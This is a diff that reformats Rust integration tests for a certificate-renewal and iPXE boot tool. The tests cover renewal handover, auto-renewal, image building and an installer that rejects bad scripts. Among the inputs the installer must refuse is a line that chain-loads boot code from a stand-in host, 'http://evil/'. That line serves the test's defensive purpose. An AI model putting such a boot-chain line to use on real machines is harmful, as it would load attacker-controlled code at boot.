@@ -15,7 +15,11 @@ const BIN: &str = env!("CARGO_BIN_EXE_ipxe-edge");
 
 fn edge(data: &Path, args: &[&str]) -> (bool, String, String) {
     let out = Command::new(BIN).arg("--data").arg(data).args(args).output().unwrap();
-    (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
 }
 
 fn edge_ok(data: &Path, args: &[&str]) -> String {
@@ -77,8 +81,12 @@ fn fingerprint(cert: &Path) -> String {
 async fn a_renewal_is_handed_over_once_and_both_certificates_boot_until_the_old_is_retired() {
     let data = temp_dir("renewal");
     let metrics_port = free_port();
-    let serve = ServeProcess::start(BIN, &data, &["--metrics-listen", &format!("127.0.0.1:{metrics_port}"), "--certificate-check-interval", "1"])
-        .expect("serve starts");
+    let serve = ServeProcess::start(
+        BIN,
+        &data,
+        &["--metrics-listen", &format!("127.0.0.1:{metrics_port}"), "--certificate-check-interval", "1"],
+    )
+    .expect("serve starts");
     let ca_pem = read(&data.join("pki/ca.crt"));
     edge_ok(&data, &["gateway", "enroll", "renew-gw", "--days", "30"]);
     let secrets = data.with_extension("secrets");
@@ -94,7 +102,9 @@ async fn a_renewal_is_handed_over_once_and_both_certificates_boot_until_the_old_
     assert!(row.contains(" 29 ") || row.contains(" 30 "), "days left: {listed}");
     let expiring = edge_ok(&data, &["gateway", "list", "--expiring-within", "60d"]);
     assert!(expiring.contains("renew-gw") && !expiring.contains("demo "), "{expiring}");
-    let json: Value = serde_json::from_str(edge_ok(&data, &["gateway", "list", "--expiring-within", "60d", "--json"]).trim()).unwrap();
+    let json: Value =
+        serde_json::from_str(edge_ok(&data, &["gateway", "list", "--expiring-within", "60d", "--json"]).trim())
+            .unwrap();
     assert_eq!(json["name"], "renew-gw");
     assert_eq!(json["fingerprint"], old_fp.as_str());
     assert!((29..=30).contains(&json["days_left"].as_i64().unwrap()), "{json}");
@@ -104,7 +114,11 @@ async fn a_renewal_is_handed_over_once_and_both_certificates_boot_until_the_old_
     assert_eq!(secret, "token=abc renew=", "nothing pending yet");
     let logs = serve.logs();
     let line = logs.lines().find(|l| l.contains("\"cert_expiring\"")).expect("cert_expiring logged");
-    assert!(line.contains("\"gateway\":\"renew-gw\"") && (line.contains("\"days_left\":29") || line.contains("\"days_left\":30")), "{line}");
+    assert!(
+        line.contains("\"gateway\":\"renew-gw\"")
+            && (line.contains("\"days_left\":29") || line.contains("\"days_left\":30")),
+        "{line}"
+    );
     tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
     let metrics = reqwest::get(format!("http://127.0.0.1:{metrics_port}/metrics")).await.unwrap().text().await.unwrap();
     assert!(metrics.contains("ipxe_edge_gateway_certificates_expiring 1"), "{metrics}");
@@ -157,7 +171,11 @@ async fn a_renewal_is_handed_over_once_and_both_certificates_boot_until_the_old_
     let logs = serve.logs();
     let renewed = logs.lines().filter(|l| l.contains("cert_renewed")).collect::<Vec<_>>();
     assert_eq!(renewed.len(), 1, "logged at the first boot with it only: {logs}");
-    assert!(renewed[0].contains("\"gateway\":\"renew-gw\"") && renewed[0].contains(&new_fp) && renewed[0].contains(&old_fp), "{}", renewed[0]);
+    assert!(
+        renewed[0].contains("\"gateway\":\"renew-gw\"") && renewed[0].contains(&new_fp) && renewed[0].contains(&old_fp),
+        "{}",
+        renewed[0]
+    );
     boot_and_redeem(&new_client, &serve).await;
     assert_eq!(serve.logs().lines().filter(|l| l.contains("cert_renewed")).count(), 1, "only the first boot");
     let history = edge_ok(&data, &["gateway", "history", "renew-gw", "--json"]);
@@ -183,7 +201,20 @@ async fn a_renewal_is_handed_over_once_and_both_certificates_boot_until_the_old_
     let efi = data.with_extension("efi");
     std::fs::write(&efi, b"MZ fake EFI binary").unwrap();
     let image = data.with_extension("img");
-    edge_ok(&data, &["image", "build", "renew-gw", "--boot-url", &serve.boot_url(), "--out", image.to_str().unwrap(), "--efi", efi.to_str().unwrap()]);
+    edge_ok(
+        &data,
+        &[
+            "image",
+            "build",
+            "renew-gw",
+            "--boot-url",
+            &serve.boot_url(),
+            "--out",
+            image.to_str().unwrap(),
+            "--efi",
+            efi.to_str().unwrap(),
+        ],
+    );
     let before = mtype(&image, "EFI/BOOT/autoexec.ipxe");
     edge_ok(&data, &["gateway", "renew", "renew-gw", "--boot-url", &serve.boot_url()]);
     let (_, secret) = boot_and_redeem(&new_client, &serve).await;
@@ -205,7 +236,11 @@ async fn a_renewal_is_handed_over_once_and_both_certificates_boot_until_the_old_
 
 /// A file inside the ESP of a disk image (partition at 1 MiB), through mtools.
 fn mtype(image: &Path, path: &str) -> String {
-    let out = Command::new("mtype").env("MTOOLS_SKIP_CHECK", "1").args(["-i", &format!("{}@@1M", image.display()), &format!("::/{path}")]).output().unwrap();
+    let out = Command::new("mtype")
+        .env("MTOOLS_SKIP_CHECK", "1")
+        .args(["-i", &format!("{}@@1M", image.display()), &format!("::/{path}")])
+        .output()
+        .unwrap();
     assert!(out.status.success(), "mtype {path}: {}", String::from_utf8_lossy(&out.stderr));
     String::from_utf8(out.stdout).unwrap()
 }
@@ -219,21 +254,35 @@ fn the_installer_replaces_atomically_keeps_a_backup_and_refuses_what_is_not_an_i
     let run = |file: &str| {
         let new = esp.with_extension("new");
         std::fs::write(&new, file).unwrap();
-        Command::new("sh").arg(installer()).args(["--file", new.to_str().unwrap(), "--esp", esp.to_str().unwrap()]).output().unwrap()
+        Command::new("sh")
+            .arg(installer())
+            .args(["--file", new.to_str().unwrap(), "--esp", esp.to_str().unwrap()])
+            .output()
+            .unwrap()
     };
     for bad in ["<html>error</html>", "#!ipxe\nchain http://evil/\n", "#!ipxe\nset cert:hex 01\n", ""] {
         let out = run(bad);
         assert!(!out.status.success(), "{bad:?} installed");
         assert!(String::from_utf8_lossy(&out.stderr).contains("nothing installed"), "{bad:?}");
-        assert_eq!(std::fs::read_to_string(boot.join("autoexec.ipxe")).unwrap(), "#!ipxe\nset cert:hex 01\nset privkey:hex 02\nchain old\n");
+        assert_eq!(
+            std::fs::read_to_string(boot.join("autoexec.ipxe")).unwrap(),
+            "#!ipxe\nset cert:hex 01\nset privkey:hex 02\nchain old\n"
+        );
         assert!(!boot.join("autoexec.ipxe.bak").exists());
     }
     let out = run("#!ipxe\nset cert:hex 0a:0b\nset privkey:hex 0c\nchain new\n");
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
-    assert_eq!(std::fs::read_to_string(boot.join("autoexec.ipxe")).unwrap(), "#!ipxe\nset cert:hex 0a:0b\nset privkey:hex 0c\nchain new\n");
-    assert_eq!(std::fs::read_to_string(boot.join("autoexec.ipxe.bak")).unwrap(), "#!ipxe\nset cert:hex 01\nset privkey:hex 02\nchain old\n");
+    assert_eq!(
+        std::fs::read_to_string(boot.join("autoexec.ipxe")).unwrap(),
+        "#!ipxe\nset cert:hex 0a:0b\nset privkey:hex 0c\nchain new\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(boot.join("autoexec.ipxe.bak")).unwrap(),
+        "#!ipxe\nset cert:hex 01\nset privkey:hex 02\nchain old\n"
+    );
     assert!(!boot.join("autoexec.ipxe.new").exists(), "no leftovers");
-    let missing = Command::new("sh").arg(installer()).args(["--file", "/nonexistent", "--esp", "/nonexistent"]).output().unwrap();
+    let missing =
+        Command::new("sh").arg(installer()).args(["--file", "/nonexistent", "--esp", "/nonexistent"]).output().unwrap();
     assert!(!missing.status.success());
 }
 
@@ -244,7 +293,12 @@ async fn serve_auto_renews_gateways_entering_the_window() {
     edge_ok(&data, &["ca", "init"]);
     edge_ok(&data, &["gateway", "enroll", "soon-gw", "--days", "20"]);
     let old_fp = fingerprint(&data.join("pki/gateways/soon-gw.crt"));
-    let serve = ServeProcess::start(BIN, &data, &["--auto-renew", "--certificate-check-interval", "1", "--retire-old-after-first-boot"]).expect("serve starts");
+    let serve = ServeProcess::start(
+        BIN,
+        &data,
+        &["--auto-renew", "--certificate-check-interval", "1", "--retire-old-after-first-boot"],
+    )
+    .expect("serve starts");
     let mut renewed = false;
     for _ in 0..50 {
         if serve.logs().contains("gateway certificate renewed") {
@@ -254,7 +308,10 @@ async fn serve_auto_renews_gateways_entering_the_window() {
         tokio::time::sleep(std::time::Duration::from_millis(200)).await;
     }
     assert!(renewed, "{}", serve.logs());
-    let json: Value = serde_json::from_str(edge_ok(&data, &["gateway", "list", "--json"]).lines().find(|l| l.contains("soon-gw")).unwrap()).unwrap();
+    let json: Value = serde_json::from_str(
+        edge_ok(&data, &["gateway", "list", "--json"]).lines().find(|l| l.contains("soon-gw")).unwrap(),
+    )
+    .unwrap();
     assert_eq!(json["renewal_pending"], true, "{json}");
     let new_fp = fingerprint(&data.join("pki/gateways/soon-gw.crt"));
     assert_ne!(new_fp, old_fp);
@@ -265,13 +322,19 @@ async fn serve_auto_renews_gateways_entering_the_window() {
     // --retire-old-after-first-boot: the first boot with the new one retires the old one.
     let ca_pem = read(&data.join("pki/ca.crt"));
     let dir = data.join("pki/gateways");
-    let old = https_client(&ca_pem, Some(&identity(&dir.join(format!("soon-gw.{old_fp}.crt")), &dir.join(format!("soon-gw.{old_fp}.key")))));
+    let old = https_client(
+        &ca_pem,
+        Some(&identity(&dir.join(format!("soon-gw.{old_fp}.crt")), &dir.join(format!("soon-gw.{old_fp}.key")))),
+    );
     let new = https_client(&ca_pem, Some(&identity(&dir.join("soon-gw.crt"), &dir.join("soon-gw.key"))));
     assert_eq!(old.get(serve.boot_url()).send().await.unwrap().status(), 200);
     assert_eq!(new.get(serve.boot_url()).send().await.unwrap().status(), 200);
     assert_eq!(old.get(serve.boot_url()).send().await.unwrap().status(), 403, "retired at the new one's first boot");
     let logs = serve.logs();
-    assert!(logs.lines().any(|l| l.contains("cert_renewed") && l.contains(&format!("\"retired\":\"{old_fp}\""))), "{logs}");
+    assert!(
+        logs.lines().any(|l| l.contains("cert_renewed") && l.contains(&format!("\"retired\":\"{old_fp}\""))),
+        "{logs}"
+    );
     serve.terminate();
 }
 
@@ -307,7 +370,11 @@ fn renewals_never_lose_the_pair_in_use() {
         runs.into_iter()
             .map(|child| {
                 let out = child.wait_with_output().unwrap();
-                (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
+                (
+                    out.status.success(),
+                    String::from_utf8_lossy(&out.stdout).into_owned(),
+                    String::from_utf8_lossy(&out.stderr).into_owned(),
+                )
             })
             .collect()
     };
@@ -336,14 +403,20 @@ fn renewals_never_lose_the_pair_in_use() {
     let fp1 = fingerprint(&cert);
     assert_ne!(fp1, fp0);
     let listed = certificates();
-    assert!(listed.contains(&fp0) && listed.contains(&fp1) && !listed.iter().any(|f| *f != fp0 && *f != fp1), "two certificates: {listed:?}");
+    assert!(
+        listed.contains(&fp0) && listed.contains(&fp1) && !listed.iter().any(|f| *f != fp0 && *f != fp1),
+        "two certificates: {listed:?}"
+    );
 
     // --replace: the unfetched renewal's pair is kept under its own name and retired; the pair
     // in use is untouched.
     let out = edge_ok(&data, &["gateway", "renew", "gw", "--boot-url", url, "--replace"]);
     assert!(out.contains("replaced the unfetched renewal"), "{out}");
     kept_pair_is_intact("after --replace");
-    assert!(dir.join(format!("gw.{fp1}.crt")).exists() && dir.join(format!("gw.{fp1}.key")).exists(), "the replaced pair is kept too");
+    assert!(
+        dir.join(format!("gw.{fp1}.crt")).exists() && dir.join(format!("gw.{fp1}.key")).exists(),
+        "the replaced pair is kept too"
+    );
     let fp2 = fingerprint(&cert);
     let listed = certificates();
     assert!(listed.contains(&fp0) && listed.contains(&fp2) && !listed.contains(&fp1), "{listed:?}");
@@ -359,7 +432,9 @@ fn renewals_never_lose_the_pair_in_use() {
     let kept = std::fs::read_dir(&dir)
         .unwrap()
         .filter_map(|e| e.ok())
-        .filter(|e| e.file_name().to_string_lossy().starts_with("gw.") && e.file_name().to_string_lossy().ends_with(".crt"))
+        .filter(|e| {
+            e.file_name().to_string_lossy().starts_with("gw.") && e.file_name().to_string_lossy().ends_with(".crt")
+        })
         .count();
     assert_eq!(kept, 7, "gw.crt, the pair in use and the five renewals replaced since, each under its own name");
 }
